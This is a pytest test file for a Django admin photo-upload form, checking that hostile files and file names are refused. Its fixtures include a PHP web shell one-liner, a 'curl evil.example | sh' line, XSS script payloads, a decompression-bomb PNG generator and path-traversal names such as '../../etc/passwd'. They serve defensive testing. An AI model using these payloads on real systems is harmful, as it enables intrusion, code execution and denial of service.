"""Hostile uploads: every file below is made here, in memory, and sent through the photo
form as staff would send it. Each is refused with a clear form error that says what is
wrong, nothing is saved and no file is left in storage; hostile file names are stored
under a safe name of our own.
"""

import io
import re
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import Image

from ilo_office.images import safe_name
from ilo_office.models import Photo
from tests.factories import jpeg_bytes

pytestmark = pytest.mark.django_db

ADD_URL = reverse("admin:ilo_office_photo_add")


def encoded(image, fmt, **options):
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def png_bytes(size=(60, 40), **options):
    return encoded(Image.new("RGB", size, (20, 120, 200)), "PNG", **options)


def noise_png(size):
    """A PNG that does not compress: its file size grows with its pixel count."""
    import os

    return encoded(Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)), "PNG")


def png_with_text(key, value):
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text(key, value)
    return png_bytes(pnginfo=info)


def png_with_bad_checksum():
    data = bytearray(png_bytes())
    start = data.index(b"IDAT")
    length = struct.unpack(">I", data[start - 4 : start])[0]
    crc_at = start + 4 + length
    data[crc_at : crc_at + 4] = b"\x00\x00\x00\x00"
    return bytes(data)


def png_bomb():
    """A 1-bit 20000x20000 PNG (400 megapixels) of a few kilobytes."""
    width = height = 20_000
    row = b"\x00" + b"\x00" * (width // 8)
    pixels = zlib.compress(row * height, 9)

    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def jpeg_claiming(width, height):
    """A small JPEG whose frame header claims another size (a bomb by its header)."""
    data = bytearray(jpeg_bytes(64, 36))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_zip():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("shell.php", "<? system($_GET['c']); ?>")
        z.writestr("readme.txt", "nothing to see")
    return jpeg_bytes(200, 100) + archive.getvalue()


def truncated(data, keep=0.6):
    return data[: int(len(data) * keep)]


UNREADABLE = "not a photo we can read"
MORE_THAN_A_PICTURE = "contains more than a picture"
TOO_MANY_PIXELS = "megapixels"

# name: (file name as sent, the bytes, what the error must say)
HOSTILE = {
    "svg with a script, named .jpg": (
        "photo.jpg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
        b"</svg>",
        MORE_THAN_A_PICTURE,
    ),
    "svg, honestly named": (
        "logo.svg",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        MORE_THAN_A_PICTURE,
    ),
    "html page named .png": (
        "photo.png",
        b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>",
        MORE_THAN_A_PICTURE,
    ),
    "php script named .jpg": ("photo.jpg", b"<?php system($_GET['c']); ?>", MORE_THAN_A_PICTURE),
    "shell script named .jpg": ("photo.jpg", b"#!/bin/sh\ncurl evil.example | sh\n", UNREADABLE),
    "jpeg with html appended (polyglot)": (
        "polyglot.jpg",
        jpeg_bytes(200, 100) + b"<script>alert(document.cookie)</script>",
        MORE_THAN_A_PICTURE,
    ),
    "jpeg with a script in its comment": (
        "comment.jpg",
        encoded(Image.new("RGB", (80, 60)), "JPEG", comment=b"<script>alert(1)</script>"),
        MORE_THAN_A_PICTURE,
    ),
    "png with html in a text chunk": (
        "text.png",
        png_with_text("Comment", "<html><script>alert(1)</script></html>"),
        MORE_THAN_A_PICTURE,
    ),
    "jpeg with a zip archive appended": ("archive.jpg", jpeg_with_zip(), MORE_THAN_A_PICTURE),
    "gif with a script after it (GIFAR-like)": (
        "anim.jpg",
        encoded(Image.new("P", (10, 10)), "GIF") + b"alert(1)//",
        "GIF files are not accepted",
    ),
    "truncated jpeg (passes verify, fails to decode)": (
        "cut.jpg",
        truncated(jpeg_bytes(900, 600, colour=(10, 200, 90)), 0.7),
        UNREADABLE,
    ),
    "truncated png": ("cut.png", truncated(noise_png((120, 120)), 0.5), UNREADABLE),
    "png with a broken checksum": ("crc.png", png_with_bad_checksum(), UNREADABLE),
    "decompression bomb png (400 megapixels in kilobytes)": (
        "bomb.png",
        png_bomb(),
        TOO_MANY_PIXELS,
    ),
    "jpeg header claiming 30000 x 30000 pixels": (
        "huge.jpg",
        jpeg_claiming(30_000, 30_000),
        TOO_MANY_PIXELS,
    ),
    "tiff": (
        "scan.jpg",
        encoded(Image.new("RGB", (10, 10)), "TIFF"),
        "TIFF files are not accepted",
    ),
    "bmp": ("photo.jpg", encoded(Image.new("RGB", (10, 10)), "BMP"), "BMP files are not accepted"),
    "empty file": ("empty.jpg", b"", "empty"),
}


def post_photo(client, name, data, **fields):
    return client.post(
        ADD_URL,
        {
            "title": "Upload",
            "alt_text_en": "Workers",
            "credit": "© ILO/A.Santos",
            "image": SimpleUploadedFile(name, data, "image/jpeg"),
            **fields,
        },
    )


def stored_files(settings):
    media = settings.MEDIA_ROOT
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


@pytest.mark.parametrize("case", HOSTILE)
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_hostile_file_is_refused_with_a_clear_form_error(admin_client, settings, case):
    """Each hostile file is a form error saying what is wrong; nothing saved, no file kept."""
    name, data, expected = HOSTILE[case]
    response = post_photo(admin_client, name, data)
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors.get("image")
    assert errors, case
    assert expected.lower() in " ".join(errors).lower()
    assert not Photo.objects.exists()
    assert stored_files(settings) == []


def test_there_are_at_least_twelve_hostile_files():
    """The corpus stays large enough to mean something."""
    assert len(HOSTILE) >= 12


def test_file_over_the_size_limit_is_refused(admin_client, settings):
    """The byte limit is a setting; a larger file is refused with the limit in the message."""
    settings.PHOTO_MAX_UPLOAD_BYTES = 1024 * 1024
    big = noise_png((800, 800))
    assert len(big) > settings.PHOTO_MAX_UPLOAD_BYTES
    response = post_photo(admin_client, "big.png", big)
    errors = " ".join(response.context["adminform"].form.errors["image"])
    assert "larger than 1 MB" in errors
    assert not Photo.objects.exists()


def test_pixel_limit_is_a_setting(admin_client, settings):
    """A photo within the byte limit but over the pixel limit is refused, with its size."""
    settings.PHOTO_MAX_PIXELS = 100_000
    response = post_photo(admin_client, "wide.jpg", jpeg_bytes(500, 300))
    errors = " ".join(response.context["adminform"].form.errors["image"])
    assert "500 by 300 pixels" in errors and "0.1 megapixels" in errors


def test_refusals_are_translated(admin_client):
    """A Vietnamese-speaking staff member reads the refusal in Vietnamese."""
    with translation.override("vi"):
        response = admin_client.post(
            reverse("admin:ilo_office_photo_add"),
            {
                "title": "Upload",
                "alt_text_en": "Workers",
                "image": SimpleUploadedFile("x.jpg", HOSTILE["php script named .jpg"][1]),
            },
        )
        message = " ".join(response.context["adminform"].form.errors["image"])
    assert "chứa nội dung khác ngoài hình ảnh" in message


SAFE_NAME = re.compile(r"^photos/\d{4}/\d{2}/[a-z0-9-]{1,40}-[0-9a-f]{12}\.(jpg|png|webp)$")

HOSTILE_NAMES = [
    "../../../../etc/passwd.jpg",
    "..\\..\\windows\\system32\\photo.jpg",
    "photo\u202egpj.php",  # right-to-left override: shows as "photophp.jpg"
    "\uff50\uff48\uff4f\uff54\uff4f\uff0e\uff50\uff48\uff50",  # full-width "photo.php"
    "photo.php.jpg",
    ".htaccess",
    "<script>alert(1)</script>.jpg",
    "a" * 250 + ".jpg",
    "Đồng Nai \u2013 công nhân may.jpg",
    "photo.jpg\x00.php",
    "   ",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_file_names_are_stored_under_a_safe_name(admin_client, name):
    """The stored name is ASCII, in the upload folder, capped, with the real format's extension."""
    response = post_photo(admin_client, name, png_bytes())
    assert response.status_code == 302, response.context["adminform"].form.errors
    stored = Photo.objects.get().image.name
    assert SAFE_NAME.match(stored), stored
    assert stored.endswith(".png")


def test_safe_name_keeps_vietnamese_readable():
    """A Vietnamese name stays recognisable in ASCII (đ becomes d, not nothing)."""
    assert safe_name("Đồng Nai.jpg", "jpg").startswith("dong-nai-")


def test_phone_jpeg_with_a_second_image_is_accepted(admin_client):
    """Many phones write MPO (a JPEG with a preview image): it is a JPEG and is accepted."""
    first, second = Image.new("RGB", (640, 480), (200, 10, 10)), Image.new("RGB", (160, 120))
    data = encoded(first, "MPO", save_all=True, append_images=[second])
    with Image.open(io.BytesIO(data)) as check:
        assert check.format == "MPO"
    response = post_photo(admin_client, "PXL_2026.jpg", data)
    assert response.status_code == 302
    photo = Photo.objects.get()
    assert photo.image.name.endswith(".jpg") and (photo.width, photo.height) == (640, 480)
